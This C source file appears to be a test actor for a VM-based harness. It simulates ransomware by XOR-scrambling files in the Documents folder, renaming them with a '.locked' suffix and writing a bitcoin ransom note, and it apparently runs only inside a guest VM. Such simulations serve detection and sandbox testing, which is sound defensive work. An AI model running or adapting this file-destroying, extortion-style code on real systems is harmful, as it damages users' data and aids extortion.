#include "tests/vm/actors/win/actor.h"

/* Overwrites the documents, renames them and leaves a note. */
int
main(void)
{
	static char paths[ACTOR_FILES][MAX_PATH], octets[65536];
	static const char note[] = "Your files are encrypted. To decrypt them "
				   "pay with bitcoin to the wallet below.\r\n";
	size_t files;

	actor_only_in_guest();
	files = actor_files(DOCUMENTS, paths);
	for (size_t i = 0; i < files; i++) {
		char to[MAX_PATH + 8];
		size_t n = actor_read(paths[i], octets, sizeof(octets));

		for (size_t k = 0; k < n; k++)
			octets[k] ^= 0x5a;
		actor_write(paths[i], octets, n);
		(void)snprintf(to, sizeof(to), "%s.locked", paths[i]);
		(void)MoveFileA(paths[i], to);
	}
	actor_write(DOCUMENTS "\\HOW_TO_DECRYPT.txt", note, sizeof(note) - 1);
	return 0;
}
